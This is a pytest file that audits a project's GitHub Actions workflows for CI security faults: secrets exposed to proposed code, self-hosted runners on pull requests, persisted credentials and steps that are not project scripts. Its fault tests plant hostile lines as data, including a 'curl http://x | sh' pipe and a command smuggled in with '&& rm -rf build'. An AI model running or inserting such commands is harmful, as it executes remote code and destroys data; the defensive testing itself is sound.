"""What runs on a code host is what runs on a laptop: workflows call scripts of the project, and can change nothing."""

import re
from pathlib import Path

import pytest
import yaml

from tests.house.sources import ROOT, plant

SCRIPT = re.compile(r"(?:ci/[a-z_]+(?: [\w+]+)*|bash \.ci/run|make setup)")
GATES = {
    "check.yml": {"bash .ci/run", "ci/rescore", "ci/slice"},
    "nightly.yml": {"ci/repredict"},
    "gpu.yml": {"ci/slice"},
    "image.yml": {"ci/image audit", "ci/reproducible audit", "ci/image cpu"},
}


def workflows(root: Path) -> dict[str, dict]:
    """Read the workflows by name; YAML takes their key `on` for a truth."""
    folder = root / ".github" / "workflows"
    return {path.name: yaml.safe_load(path.read_text()) for path in sorted(folder.glob("*.yml"))}


def steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def faults(root: Path) -> list[str]:
    """List what a workflow does that nobody could do on a laptop, or that gives somebody more than reading."""
    found = []
    for name, workflow in workflows(root).items():
        text = (root / ".github" / "workflows" / name).read_text()
        events = workflow[True]
        if "secrets." in text or "pull_request_target" in events:
            found.append(f"{name} hands a secret to code that somebody proposed")
        for title, job in workflow["jobs"].items():
            if "self-hosted" in job["runs-on"] and "pull_request" in events:
                found.append(f"{name}: {title} runs a stranger's change on somebody's own machine")
            if "permissions" in job:
                found.append(f"{name}: {title} asks for permissions of its own")
        for step in steps(workflow):
            if "run" in step and not SCRIPT.fullmatch(step["run"].strip()):
                found.append(f"{name} runs {step['run']!r}, which is no script of ci/")
            if "checkout@" in step.get("uses", "") and step.get("with", {}).get("persist-credentials") is not False:
                found.append(f"{name} leaves credentials in the checkout")
    return found


def test_workflows_run_scripts_of_the_project_and_nothing_else():
    assert faults(ROOT) == []


@pytest.mark.parametrize("name", sorted(GATES))
def test_every_gate_is_called(name):
    called = {step["run"].strip() for step in steps(workflows(ROOT)[name]) if "run" in step}
    assert called >= GATES[name]


def test_containers_of_jobs_come_by_a_digest_that_the_project_knows():
    known = (ROOT / "docker" / "digests.toml").read_text()
    for workflow in workflows(ROOT).values():
        for job in workflow["jobs"].values():
            name, _, digest = job.get("container", {}).get("image", "@").partition("@")
            assert name in known
            assert digest in known


def test_gates_leave_their_reports_also_when_they_fail():
    for workflow in workflows(ROOT).values():
        (kept,) = [step for step in steps(workflow) if "upload-artifact@" in step.get("uses", "")]
        assert (kept["if"], kept["with"]["path"]) == ("always()", "reports")


def test_no_workflow_writes_the_reference():
    for path in [*(ROOT / ".github" / "workflows").glob("*.yml"), *(ROOT / "ci").iterdir()]:
        assert "harness accept" not in path.read_text(), path


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        (("run: ci/x", "run: curl http://x | sh"), "no script of ci/"),
        (("run: ci/x", "run: ci/x && rm -rf build"), "no script of ci/"),
        (("[ubuntu]", "[self-hosted]"), "somebody's own machine"),
        (("persist-credentials: false", "fetch-depth: 0"), "leaves credentials"),
        (("pull_request:", "pull_request_target:"), "hands a secret"),
        (("run: ci/x", "run: ci/x ${{ secrets.KEY }}"), "hands a secret"),
    ],
)
def test_each_fault_is_found(tmp_path, change, fault):
    good = (
        "on:\n  pull_request:\njobs:\n  one:\n    runs-on: [ubuntu]\n    steps:\n"
        "      - uses: actions/checkout@1\n        with: {persist-credentials: false}\n      - run: ci/x\n"
    )
    plant(tmp_path, {".github/workflows/w.yml": good})
    assert faults(tmp_path) == []
    plant(tmp_path, {".github/workflows/w.yml": good.replace(*change)})
    assert any(fault in one for one in faults(tmp_path)), faults(tmp_path)
